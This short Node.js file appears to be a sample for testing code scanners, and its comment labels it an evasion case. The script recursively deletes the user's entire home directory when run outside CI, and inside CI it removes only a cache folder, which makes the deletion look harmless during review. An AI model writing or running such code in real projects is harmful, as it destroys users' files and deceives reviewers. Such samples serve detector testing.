// Evasion: deletes the home directory. The path to remove is a template
// of the home directory and a suffix chosen by a ternary; outside CI the
// suffix is empty, so the whole home is removed.
'use strict';
const fs = require('fs');
const os = require('os');

const suffix = process.env.CI ? '/.cache/build-tool' : '';
const target = `${os.homedir()}${suffix}`;
console.log('resetting', target);
fs.rmSync(target, { recursive: true, force: true });
